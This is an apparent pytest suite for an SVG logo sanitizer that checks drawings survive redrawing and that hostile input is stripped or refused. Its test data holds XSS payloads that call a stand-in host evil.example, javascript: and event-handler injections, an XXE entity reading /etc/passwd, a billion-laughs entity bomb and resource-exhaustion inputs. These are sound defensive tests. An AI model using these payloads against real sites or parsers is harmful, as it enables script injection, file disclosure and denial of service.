"""SVGs: what a drawing program wrote comes out as it was drawn, and nothing else does."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from lxml import etree

from giftshop.branding import redraw
from giftshop.branding.errors import DrawingDamaged, DrawingTooComplicated, NothingDrawn
from giftshop.imaging import NotAPicture
from giftshop.kernel.errors import Refused
from tests.limits import verdicts

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
CIRCLE = '<circle cx="50" cy="50" r="40" fill="#c8102e"/>'
ILLUSTRATOR = f"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: a drawing program -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" {XLINK} x="0px" y="0px"
  viewBox="0 0 200 80" style="enable-background:new 0 0 200 80;" xml:space="preserve">
<style type="text/css">
  .st0{{fill:#C8102E;}} /* a remark }} .st1{{ */
  .st1{{clip-path:url(#SVGID_2_);fill:url(#SVGID_3_)}}
  path.st2, #special {{ fill : none !important; stroke: rgb(0, 60, 40); stroke-width:2 }}
</style>
<switch><foreignObject requiredExtensions="x" width="1" height="1"/><g>
  <defs><rect id="SVGID_1_" width="200" height="80"/></defs>
  <clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_" style="overflow:visible;"/></clipPath>
  <linearGradient id="SVGID_3_" gradientUnits="userSpaceOnUse" x1="0" y1="0" x2="200" y2="0">
    <stop offset="0" style="stop-color:#004F37"/><stop offset="1" style="stop-color:#C99A3A"/>
  </linearGradient>
  <path class="st0" d="M10,10c0-1.1,0.9-2,2-2h20v30H10V10z"/>
  <rect class="st1" x="60" width="40" height="80"/>
  <path class="st2" d="M120 10 L150 40"/>
  <circle id="special" cx="170" cy="40" r="20"/>
</g></switch></svg>"""


def svg(inside: str, attributes: str = 'viewBox="0 0 100 100"') -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} {attributes}>{inside}</svg>'.encode()


def drawn(inside: str) -> str:
    return redraw(svg(inside)).content.decode()


def test_what_a_drawing_program_wrote_comes_out_as_it_was_drawn() -> None:
    art = redraw(ILLUSTRATOR.encode())
    root = etree.fromstring(art.content)
    parts = {name: root.findall(f".//{{*}}{name}") for name in ("path", "rect", "circle", "use")}
    assert (art.width, art.height, art.is_pale, art.lost_parts) == (200, 80, False, False)
    assert [part.get("fill") for part in parts["path"]] == ["#C8102E", "none"]
    assert [part.get("stroke") for part in parts["path"]] == [None, "rgb(0, 60, 40)"]
    assert parts["rect"][1].get("fill") == "url(#SVGID_3_)"
    assert parts["rect"][1].get("clip-path") == "url(#SVGID_2_)"
    assert parts["circle"][0].get("fill") == "none"
    assert parts["use"][0].get("{http://www.w3.org/1999/xlink}href") == "#SVGID_1_"
    for gone in ("style", "class", "DOCTYPE", "Generator", "foreignObject", "switch", "enable-background"):
        assert gone not in art.content.decode()


def test_drawing_it_anew_twice_changes_nothing() -> None:
    once = redraw(ILLUSTRATOR.encode())
    assert redraw(once.content).content == once.content


@pytest.mark.parametrize(
    "attack",
    [
        "<script>fetch('//evil.example')</script>",
        "<script href='//evil.example/x.js'/>",
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//evil.example'/></foreignObject>",
        "<image href='http://evil.example/x.png' width='9' height='9'/>",
        "<image xlink:href='file:///etc/passwd' width='9' height='9'/>",
        "<use href='http://evil.example/x.svg#a'/>",
        "<use href='data:image/svg+xml;base64,PHN2Zz4='/>",
        "<a href='javascript:alert(1)'><rect width='5' height='5'/></a>",
        "<rect width='5' height='5' onload='alert(1)' onclick='alert(1)'/>",
        "<rect width='5' height='5' fill='url(http://evil.example/x#y)'/>",
        "<rect width='5' height='5' style='fill:url(//evil.example/x)'/>",
        "<rect width='5' height='5' style='background:url(//evil.example/x);fill:red'/>",
        "<rect width='5' height='5' filter='url(//evil.example/x#f)'/>",
        "<style>@import url(//evil.example/x.css); rect{fill:url(//evil.example/y)}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
        "<style>rect{fill:expression(alert(1));behavior:url(//evil.example)}</style>",
        '<text font-family="x;src:url(//evil.example)">a</text>',
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<set attributeName='onclick' to='alert(1)'/>",
        "<filter id='f'><feImage href='//evil.example/x'/></filter>",
        "<pattern id='p'><image href='//evil.example/x'/></pattern>",
        "<metadata><x xmlns='//evil.example/'/></metadata>",
        "<handler xmlns='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<?xml-stylesheet href='//evil.example/x.css'?>",
        "<!-- evil.example -->",
        "<rect width='5' height='5' xml:base='http://evil.example/' data-x='evil.example'/>",
    ],
)
def test_nothing_that_runs_or_fetches_is_kept(attack: str) -> None:
    kept = drawn(CIRCLE + attack)
    assert not re.search(r"evil|alert|javascript|passwd|script|import|@|data:|file:|style|on\w+=", kept), kept
    for address in re.findall(r"(?:href=\"|url\()\s*['\"]?([^'\")]+)", kept):
        assert address.startswith("#"), kept
    assert "<circle" in kept


def test_letters_stay_letters_and_markup_in_them_stays_words() -> None:
    art = redraw(svg("<text x='1' y='20' font-family=\"'Noto Sans SC', serif\">联动 &lt;script&gt;</text>"))
    assert art.has_text
    assert "联动 &lt;script&gt;" in art.content.decode()


def test_what_is_lost_is_told() -> None:
    assert not redraw(svg(CIRCLE)).lost_parts
    assert redraw(svg(CIRCLE + "<image href='data:image/png;base64,AA=='/>")).lost_parts
    assert redraw(svg("<circle r='9' filter='url(#shadow)'/>")).lost_parts
    assert redraw(svg("<line x2='9' stroke='red' stroke-dasharray='1 2'/>")).lost_parts


@pytest.mark.parametrize(
    ("shape", "pale"),
    [
        ("<rect width='9' height='9'/>", False),
        ("<rect width='9' height='9' fill='white'/>", True),
        ("<g fill='#ffe9a0'><rect width='9' height='9'/></g>", True),
        ("<rect width='9' height='9' fill='#fff' stroke='#003c28'/>", False),
        ("<style>.a{fill:#fff}</style><rect class='a' width='9' height='9'/>", True),
        ("<linearGradient id='g'><stop stop-color='#fffff0'/></linearGradient><rect fill='url(#g)' width='9'/>", True),
        ("<linearGradient id='g'><stop stop-color='#003c28'/></linearGradient><rect fill='url(#g)' width='9'/>", False),
        ("<defs><rect id='d' width='9' height='9'/></defs><use href='#d'/>", False),
        ("<clipPath id='c'><rect width='9' height='9'/></clipPath><rect fill='white' width='9'/>", True),
    ],
)
def test_a_drawing_that_fades_into_paper_is_told(shape: str, pale: bool) -> None:
    assert redraw(svg(shape)).is_pale is pale


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('viewBox="0 0 300 100"', (300, 100)),
        ('viewBox="0,0,300,100" width="3000" height="1"', (300, 100)),
        ('width="300px" height="100"', (300, 100)),
        ('width="60mm" height="20mm"', (60, 20)),
        ('viewBox="0 0 0 0" width="300" height="100"', (300, 100)),
    ],
)
def test_a_drawing_has_the_size_it_says(attributes: str, size: tuple[int, int]) -> None:
    art = redraw(svg(CIRCLE, attributes))
    assert (art.width, art.height) == size


@pytest.mark.parametrize(
    ("raw", "refusal"),
    [
        (svg(""), NothingDrawn),
        (svg("<image href='x.png'/>"), NothingDrawn),
        (svg(CIRCLE, ""), DrawingDamaged),
        (svg(CIRCLE, 'viewBox="0 0 -1 5"'), DrawingDamaged),
        (svg(CIRCLE, 'viewBox="0 0 1e30 1e30"'), DrawingDamaged),
        (svg(CIRCLE, 'viewBox="nan nan nan nan"'), DrawingDamaged),
        (svg(CIRCLE, 'viewBox="0 0 100000 1"'), DrawingDamaged),
        (svg(CIRCLE)[:-3], DrawingDamaged),
        (b"<svg", DrawingDamaged),
        (b"<html><body><svg/></body></html>", DrawingDamaged),
        (b"<svg xmlns='http://www.w3.org/2000/svg' a='1' a='2'/>", DrawingDamaged),
        (b"<?xml version='1.0' encoding='nonsense'?><svg/>", DrawingDamaged),
        (b"<!DOCTYPE svg [<!ENTITY a 'b'>]>" + svg(CIRCLE), DrawingDamaged),
        (b"<p>not a picture</p>", NotAPicture),
        (b"\x1f\x8b\x08svgz", NotAPicture),
    ],
)
def test_what_is_no_drawing_is_refused_at_the_logo_field(raw: bytes, refusal: type[Refused]) -> None:
    with pytest.raises(refusal) as refused:
        redraw(raw)
    assert refused.value.field == "logo"


def test_a_drawing_in_another_encoding_is_read() -> None:
    text = svg("<title>灯塔</title>" + CIRCLE).decode()
    assert "灯塔" in redraw(text.encode("utf-16")).content.decode()
    assert "灯塔" in redraw(text.encode("utf-8-sig")).content.decode()


@pytest.mark.parametrize(
    "ring",
    [
        "<g id='a'><use href='#a'/></g>",
        "<use id='a' href='#b'/><use id='b' href='#a'/>",
        "<linearGradient id='a' href='#b'/><linearGradient id='b' href='#a'/><rect fill='url(#a)' width='9'/>",
        "<clipPath id='a' clip-path='url(#a)'><rect clip-path='url(#a)' width='9'/></clipPath>",
        "<mask id='a'><rect mask='url(#b)' width='9'/></mask><mask id='b'><rect mask='url(#a)' width='9'/></mask>",
        "<symbol id='a'><symbol id='b'><use href='#a'/></symbol></symbol><use href='#b'/>",
    ],
)
def test_what_turns_in_a_ring_is_cut(ring: str) -> None:
    kept = etree.fromstring(drawn(CIRCLE + ring).encode())
    by_id = {part.get("id"): part for part in kept.iter() if part.get("id")}

    def walk(part: etree._Element, seen: tuple[str, ...]) -> None:
        for inside in part.iter():
            for name in ("{http://www.w3.org/1999/xlink}href", "clip-path", "mask", "fill"):
                found = re.search(r"#([\w-]+)", str(inside.get(name, "")))
                if found and found[1] in by_id:
                    assert found[1] not in seen, f"a ring over {seen}"
                    walk(by_id[found[1]], (*seen, found[1]))

    for name, part in by_id.items():
        walk(part, (str(name),))


def used_again(levels: int) -> str:
    """A rectangle, used ten times, which is used ten times, …"""
    parts = ["<g id='u0'><rect width='9' height='9'/></g>"]
    for level in range(1, levels + 1):
        parts.append(f"<g id='u{level}'>" + f"<use href='#u{level - 1}'/>" * 10 + "</g>")
    return "".join(parts)


def test_hostile_drawings_stay_within_the_limits(tmp_path: Path) -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(10))
    many_rules = "".join(f".c{number}{{fill:#c8102e}}" for number in range(60_000))
    masks = "<mask id='m'>" + CIRCLE * 1000 + "</mask>" + "<rect width='9' height='9' mask='url(#m)'/>" * 1000
    files = {
        "a billion laughs": f"<!DOCTYPE svg [{laughs}]>".encode() + svg("<text>&l9;</text>"),
        "laughs in an attribute": f"<!DOCTYPE svg [{laughs}]>".encode() + svg("<text id='&l9;'>x</text>"),
        "an entity from outside": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"),
        "a document type from outside": b'<!DOCTYPE svg SYSTEM "http://127.0.0.1:9/x.dtd">' + svg(CIRCLE),
        "uses of uses": svg(used_again(9)),
        "one part used ten thousand times": svg("<g id='a'>" + CIRCLE * 1000 + "</g>" + "<use href='#a'/>" * 10_000),
        "a mask of a thousand on a thousand": svg(masks),
        "a million shapes": svg("<path d='M0 0'/>" * 110_000),
        "ten thousand deep": svg("<g>" * 10_000 + CIRCLE + "</g>" * 10_000),
        "sixty thousand rules": svg(f"<style>{many_rules}</style>" + "<path class='c1 c2 c3 c4' d='M0 0h9'/>" * 9_000),
        "comments that do not end": svg("<style>" + "/*" * 900_000 + "</style>" + CIRCLE),
        "a style without braces": svg("<style>" + "a," * 900_000 + "</style>" + CIRCLE),
        "numbers without end": svg(f"<polygon points='{'1' * 1_800_000}x'/>" + CIRCLE),
        "a transform without end": svg(f"<g transform='{'scale(1)' * 200_000}!'>{CIRCLE}</g>"),
        "a path of infinities": svg(f"<path d='M{'1e999 ' * 300_000}'/>" + CIRCLE),
        "a list of lengths": svg(f"<rect x='{'1 ' * 900_000}!' width='9'/>" + CIRCLE),
        "a font of quotes": svg(f"<text font-family='{',' * 1_900_000}'>x</text>" + CIRCLE),
        "three megabytes": svg("<!--" + "x" * 3_000_000 + "-->" + CIRCLE),
    }
    told = verdicts("giftshop.branding:redraw", files, tmp_path)
    refused = {name for name, verdict in told.items() if verdict in {"DrawingDamaged", "DrawingTooComplicated"}}
    assert {name: told[name] for name in told.keys() - refused if told[name] != "taken"} == {}
    assert {
        "a billion laughs",
        "laughs in an attribute",
        "an entity from outside",
        "one part used ten thousand times",
        "a mask of a thousand on a thousand",
        "a million shapes",
        "ten thousand deep",
        "three megabytes",
    } <= refused


def test_parts_used_too_often_are_too_complicated() -> None:
    with pytest.raises(DrawingTooComplicated):
        redraw(svg("<g id='a'>" + CIRCLE * 1000 + "</g>" + "<use href='#a'/>" * 100))
    assert drawn("<g id='a'>" + CIRCLE * 100 + "</g>" + "<use href='#a'/>" * 100).count("<use") == 100
